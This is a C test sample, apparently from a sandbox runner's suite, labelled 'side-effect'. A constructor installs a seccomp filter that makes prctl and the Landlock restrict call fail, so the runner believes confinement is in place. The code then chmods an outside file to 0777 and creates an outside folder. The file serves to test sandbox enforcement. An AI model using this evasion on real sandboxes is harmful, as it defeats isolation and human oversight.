/* A filter of its own lets the runner believe that the sandbox closes, and then files are changed.
 * verdict: side-effect */
#include "hostile.h"
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <sys/prctl.h>
__attribute__((constructor)) static void load(void)
{
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_prctl, 2, 0),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, 446, 1, 0),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO),
	};
	struct sock_fprog program = {sizeof(code) / sizeof(code[0]), code};

	prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program);
}
static void attack(void)
{
	syscall(SYS_chmod, OUTSIDE "/precious", 0777);
	syscall(SYS_mkdir, OUTSIDE "/folder", 0755);
	leave("new", "got out", 7);
}
AT_CALL(f)
